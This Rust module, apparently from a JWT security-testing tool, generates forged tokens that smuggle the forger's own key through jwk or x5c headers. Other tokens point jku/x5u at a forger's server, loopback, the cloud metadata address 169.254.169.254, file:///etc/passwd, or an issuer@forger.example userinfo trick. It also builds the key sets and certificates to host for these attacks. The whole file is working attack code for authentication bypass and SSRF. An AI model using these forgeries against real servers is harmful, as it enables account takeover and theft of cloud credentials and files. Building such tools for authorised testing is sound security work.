//! The token brings its own key, or says where to fetch it.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use crate::{
    attack::{
        Family, Forged, Forgery, Make, Stage, certificate,
        draft::{Draft, set},
    },
    jose::{b64, pem},
};

const OWN: &str =
    "A key that the token brings along is trusted: anyone can write any token (CVE-2018-0114).";
const FETCH: &str = "The server fetches keys from where the token says: anyone can write any token, and make the server send requests.";
const INSIDE: &str = "The server fetches what the token names, even inside its own network (SSRF).";
const SOURCE: &str = "RFC 8725 §3.10; jwt_tool, JWT Editor, PortSwigger, jwt-hack";

pub(super) static FAMILY: Family = Family {
    name: "key-pointers",
    title: "Key pointers",
    says: "The token brings its own key, or says where to fetch it. Only keys that the server knows beforehand may decide.",
    stage: Stage::KeyName,
    forgeries: &[
        Forgery {
            name: "jwk-own",
            title: "Own key in `jwk`",
            mutates: "The header brings a key of the forger's in `jwk`; signed with it.",
            source: "CVE-2018-0114; jwt_tool, JWT Editor, PortSwigger, jwt-hack",
            means: OWN,
            make: Make::Token(|d| by_jwk(d, false)),
            ..forgery()
        },
        Forgery {
            name: "jwk-own-kid",
            title: "Own key in `jwk`, with its kid",
            mutates: "As own key in `jwk`; `kid` names the key that is brought along.",
            source: "CVE-2018-0114; JWT Editor, PortSwigger",
            means: OWN,
            make: Make::Token(|d| by_jwk(d, true)),
            ..forgery()
        },
        Forgery {
            name: "jwk-private",
            title: "Private key in `jwk`",
            mutates: "The header brings a whole private key in `jwk`; signed with it.",
            source: "RFC 7515 §4.1.3; own",
            means: OWN,
            make: Make::Token(|d| {
                own(
                    d,
                    "/jwk",
                    Value::Object(crate::attack::ingredients::unbound(&d.with.own).0),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "jwk-symmetric",
            title: "Symmetric key in `jwk`",
            mutates: "The header brings a shared secret in `jwk`; `alg` is HS256, and the HMAC is made with it.",
            source: "RFC 7515 §4.1.3; own",
            means: OWN,
            make: Make::Token(|d| {
                let h = d.header_set("/alg", Some("HS256".into()))?;
                d.hmac_with(
                    &set(
                        &h,
                        "/jwk",
                        Some(json!({"kty":"oct","k":b64::encode("forged")})),
                    )?,
                    b"forged",
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "x5c-own",
            title: "Own certificate in `x5c`",
            mutates: "The header brings a self-signed certificate of the forger's; signed with its key.",
            source: "RFC 7515 §4.1.6; CVE-2017-2800; jwt_tool, jwt-hack",
            means: OWN,
            make: Make::Token(|d| {
                let der = certificate::self_signed(&d.with.own, &d.with.own_alg)?;
                own(d, "/x5c", json!([STANDARD.encode(der)]))
            }),
            ..forgery()
        },
        Forgery {
            name: "x5c-own-chain",
            title: "Own chain in `x5c`",
            mutates: "The header brings a certificate and the authority of the forger's that signed it; signed with the certificate's key.",
            source: "RFC 7515 §4.1.6, RFC 5280 §6.1; jwt_tool, jwt-hack",
            means: OWN,
            make: Make::Token(|d| {
                let chain = certificate::chain(&d.with.own, &d.with.own_alg)?;
                own(
                    d,
                    "/x5c",
                    chain
                        .map(|der| Value::from(STANDARD.encode(der)))
                        .into_iter()
                        .collect(),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "jku-own",
            title: "`jku` to the forger's server",
            mutates: "`jku` names a key set at the forger's; signed with a key of the forger's.",
            source: SOURCE,
            means: FETCH,
            make: Make::Token(|d| own(d, "/jku", d.with.place("jwks.json").into())),
            ..forgery()
        },
        Forgery {
            name: "jku-loopback",
            title: "`jku` to loopback",
            mutates: "`jku` names a port of the server's own machine.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| own(d, "/jku", json!("http://127.0.0.1:9/jwks.json"))),
            ..forgery()
        },
        Forgery {
            name: "jku-metadata",
            title: "`jku` to the metadata address",
            mutates: "`jku` names the address at which clouds give credentials away.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| {
                own(d, "/jku", json!("http://169.254.169.254/latest/meta-data/"))
            }),
            ..forgery()
        },
        Forgery {
            name: "jku-file",
            title: "`jku` to a file",
            mutates: "`jku` names a file.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| own(d, "/jku", json!("file:///etc/passwd"))),
            ..forgery()
        },
        Forgery {
            name: "jku-userinfo",
            title: "`jku` behind the issuer's name",
            mutates: "`jku` begins with the issuer's name and leads elsewhere: `issuer@forger.example`.",
            source: "RFC 8725 §3.10; PortSwigger",
            means: FETCH,
            make: Make::Token(|d| {
                let issuer = d
                    .claim_text("iss")
                    .unwrap_or_else(|_| "https://issuer.example".into());
                let place = d.with.place("jwks.json");
                let (_, place) = place.split_once("://").unwrap_or(("", &place));
                own(
                    d,
                    "/jku",
                    json!(format!("{}@{place}", issuer.trim_end_matches('/'))),
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "x5u-own",
            title: "`x5u` to the forger's server",
            mutates: "`x5u` names a certificate at the forger's; signed with its key.",
            source: SOURCE,
            means: FETCH,
            make: Make::Token(|d| own(d, "/x5u", d.with.place("cert.pem").into())),
            ..forgery()
        },
        Forgery {
            name: "x5u-loopback",
            title: "`x5u` to loopback",
            mutates: "`x5u` names a port of the server's own machine.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| own(d, "/x5u", json!("http://127.0.0.1:9/cert.pem"))),
            ..forgery()
        },
        Forgery {
            name: "x5u-metadata",
            title: "`x5u` to the metadata address",
            mutates: "`x5u` names the address at which clouds give credentials away.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| {
                own(d, "/x5u", json!("http://169.254.169.254/latest/meta-data/"))
            }),
            ..forgery()
        },
        Forgery {
            name: "x5u-file",
            title: "`x5u` to a file",
            mutates: "`x5u` names a file.",
            source: SOURCE,
            means: INSIDE,
            make: Make::Token(|d| own(d, "/x5u", json!("file:///etc/passwd"))),
            ..forgery()
        },
    ],
    ..Family::BASE
};

/// What its forgeries have in common.
const fn forgery() -> Forgery {
    Forgery::of(&FAMILY)
}

/// What has to stand at the address that a forgery points to, for a server that fetches it: what it is,
/// and its text.
pub fn hosted(name: &str, with: &crate::attack::Ingredients) -> Option<(&'static str, String)> {
    match name {
        "jku-own" | "jku-userinfo" => {
            let key = Value::Object(with.own.public()?.0);
            let set = serde_json::to_string_pretty(&json!({ "keys": [key] })).ok()?;
            Some(("key set", set))
        }
        "x5u-own" => {
            let der = certificate::self_signed(&with.own, &with.own_alg).ok()?;
            Some(("certificate", pem::armour("CERTIFICATE", &der)))
        }
        _ => None,
    }
}

/// Adds a member that leads to the forger's key, takes the issuer's `kid` away, and signs.
fn own(d: &Draft<'_>, pointer: &str, value: Value) -> Forged {
    let header = d.header_set("/alg", Some(d.with.own_alg.name().into()))?;
    let header = set(&header, pointer, Some(value))?;
    let header = if d.members()?.contains_key("kid") {
        set(&header, "/kid", None)?
    } else {
        header
    };
    d.own(&header, &d.payload()?)
}

fn by_jwk(d: &Draft<'_>, named: bool) -> Forged {
    let mut public = d
        .with
        .own
        .public()
        .ok_or("a shared secret has no public part to bring along")?;
    if !named {
        public.0.shift_remove("kid");
        return own(d, "/jwk", Value::Object(public.0));
    }
    public.0.insert("kid".into(), "forged".into());
    let header = d.header_set("/alg", Some(d.with.own_alg.name().into()))?;
    let header = set(&header, "/kid", Some("forged".into()))?;
    let header = set(&header, "/jwk", Some(Value::Object(public.0)))?;
    d.own(&header, &d.payload()?)
}
